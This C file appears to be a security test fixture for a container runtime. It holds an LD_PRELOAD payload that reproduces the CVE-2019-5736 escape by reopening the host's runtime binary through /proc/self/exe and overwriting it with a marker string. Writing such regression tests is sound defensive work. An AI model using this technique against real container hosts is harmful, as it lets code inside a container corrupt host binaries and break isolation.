// The CVE-2019-5736 payload of integration/security-attacks.bats, preloaded (LD_PRELOAD) into
// whatever the kernel runs for a container's `#!/proc/self/exe` script. If that is the host's
// hippo or shim binary, this constructor runs inside the container with /proc/self/exe naming
// it: it records the file's identity in /attack.log, then a child keeps an O_PATH fd on it and
// tries, for a bounded time, to reopen it for writing (waiting out ETXTBSY while the host's
// copies still run) and to overwrite it. The parent becomes `sleep 3`, so that the container
// lives on while nothing in it executes the binary any more.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void note(const char* text) {
  int log = open("/attack.log", O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
  if (log < 0) return;
  (void)!write(log, text, strlen(text));
  close(log);
}

__attribute__((constructor)) static void attack(void) {
  char line[256];
  int exe = open("/proc/self/exe", O_PATH | O_CLOEXEC);
  struct stat st;
  if (exe < 0 || fstat(exe, &st) != 0) {
    snprintf(line, sizeof line, "exe: %s\n", strerror(errno));
    note(line);
    _exit(1);
  }
  snprintf(line, sizeof line, "exe %lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
  note(line);
  if (fork() == 0) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
    for (int i = 0; i < 500; ++i) {  // ~10 s
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w >= 0) {
        const char evil[] = "hippo-exe-attack";
        ssize_t n = write(w, evil, sizeof evil - 1);
        if (n > 0) snprintf(line, sizeof line, "wrote %zd bytes\n", n);
        else snprintf(line, sizeof line, "write: %s\n", strerror(errno));
        note(line);
        _exit(0);
      }
      if (errno != ETXTBSY) {
        snprintf(line, sizeof line, "open for writing: %s\n", strerror(errno));
        note(line);
        _exit(0);
      }
      struct timespec pause = {0, 20 * 1000 * 1000};
      nanosleep(&pause, NULL);
    }
    note("open for writing: still busy\n");
    _exit(0);
  }
  execl("/bin/sleep", "sleep", "3", (char*)NULL);
  _exit(1);
}
